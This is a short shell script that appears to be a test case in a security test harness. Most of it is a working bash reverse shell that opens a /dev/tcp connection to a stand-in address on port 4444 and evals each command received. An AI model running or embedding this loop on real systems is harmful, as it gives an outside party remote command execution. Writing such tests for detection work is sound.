#!/bin/sh
. /opt/case/case.sh

bash -c '
exec 7<>/dev/tcp/203.0.113.10/4444
while read -r line <&7; do
    test "$line" != exit || break
    eval "$line" >&7 2>&1
done'
wait_for /tmp/reached
took_place
